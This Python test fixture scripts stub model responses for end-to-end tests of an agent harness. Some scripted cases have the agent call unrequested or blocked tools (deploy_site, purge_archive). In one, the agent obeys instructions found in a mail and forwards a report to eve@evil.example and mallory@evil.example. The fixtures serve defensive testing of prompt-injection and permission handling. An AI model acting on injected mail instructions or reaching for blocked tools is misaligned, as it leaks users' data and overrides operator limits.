"""A model that does what the operator's policy and skills tell it, and one that reaches for what is
blocked.
"""

from typing import Any, Final

from tests.e2e.stubborn import when

LATE: Final = "I'm running late"
"""What the skills of the tests tell people."""


def _calls(name: str, /, **arguments: Any) -> dict[str, Any]:
    return {"calls": [{"name": name, "arguments": arguments}]}


def _meeting(seat: int) -> dict[str, Any]:
    return {"name": "meet", "arguments": {"party": "{{goal.party}}", "of": 3, "seat": seat}}


def _plan(name: str, *tools: str) -> dict[str, Any]:
    return {"plan": {"steps": [{"id": name, "description": f"{name} it", "required_tools": tools}]}}


def _forwarding(name: str, *after: str) -> dict[str, Any]:
    return {
        "id": name,
        "description": "forward it",
        "required_tools": ["forward_report"],
        "dependencies": after,
    }


_UNTIL_DONE = {"thought": "answer", "goal": "^(Roll out|Purge|Have|Note|Unlock|Forward|Meet)"}

OBEDIENT: Final[list[dict[str, Any]]] = [
    # The plan has the tool only when the operator's own words have asked for it.
    when("plan", "^Roll out", _plan("deploy", "deploy_site"), last="No step promises deploy_site"),
    when("plan", "^Roll out", _plan("think")),
    when("act", "^Roll out", _calls("deploy_site", name="shop")),
    when("reason", "^Roll out", {"content": "The shop is a fine site."}),
    when("plan", "^Purge", _plan("look")),
    when("reason", "^Purge", _calls("purge_archive"), attempt=1),
    when("reason", "^Purge", {"content": "The archive stays as it is."}),
    # Three calls at once, of which each waits for the others.
    when("plan", "^Meet", _plan("meet", "meet")),
    when("act", "^Meet (?P<party>\\w+)", {"calls": [*map(_meeting, (1, 2, 3))]}),
    # Skills with steps.
    when("plan", "^Have", _plan("tell", "tell-somebody")),
    when("act", "^Have (?P<who>\\w+)", _calls("tell-somebody", who="{{goal.who}}", words=LATE)),
    when("answer", "^Have", {"content": "It went to {{results.tell-somebody.data.recipient_id}}."}),
    when("plan", "^Note", _plan("note", "note-twice")),
    when("act", "^Note", _calls("note-twice", words="rain")),
    # An id that is looked up as it should be.
    when("plan", "^Unlock", _plan("unlock", "find_door", "unlock")),
    when(
        "act",
        "^Unlock the (?P<name>\\w+)",
        _calls("find_door", name="{{goal.name}}"),
        without=["find_door"],
    ),
    when("act", "^Unlock", {"content": "It stays locked."}, result={"error.error_type": ".+"}),
    when("act", "^Unlock", _calls("unlock", door_id="{{results.find_door.data.door_id}}")),
    # A mail tells it where to forward the report, and it obeys.
    when(
        "plan",
        "^Forward",
        {"plan": {"steps": [_forwarding("first"), _forwarding("second", "first")]}},
    ),
    when("act", "^Forward", _calls("read_mail"), without=["read_mail"]),
    when("act", "^Forward", _calls("forward_report", email="eve@evil.example"), step="first"),
    when("act", "^Forward", _calls("forward_report", email="mallory@evil.example"), step="second"),
    {"when": _UNTIL_DONE, "say": {"content": "Here is what came of it."}},
]
